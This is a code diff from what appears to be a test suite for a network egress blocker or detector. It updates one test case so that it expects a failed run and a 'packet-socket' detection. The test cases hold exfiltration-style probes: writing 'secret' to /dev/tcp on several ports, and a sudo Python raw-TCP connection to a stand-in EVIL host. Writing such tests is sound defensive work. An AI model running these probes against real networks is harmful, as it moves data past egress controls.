@@ -113,7 +113,8 @@ for port in 22 8080 8443; do (echo secret > /dev/tcp/${ALLOWED.a}/$port) || true
       // The first request has the gateway's hardware address looked up.
       act: `curl -s -m 3 http://${ALLOWED.name}/ || true\n${python(rawTcp(EVIL), "sudo")}`,
       harm: reachedEvil,
-      sign: ({ report }) => report.detections.some(({ id }) => id === "raw-socket"),
+      sign: ({ post, report }) =>
+        post.conclusion === "failure" && report.detections.some(({ id }) => id === "packet-socket"),
     }),
   },
   {
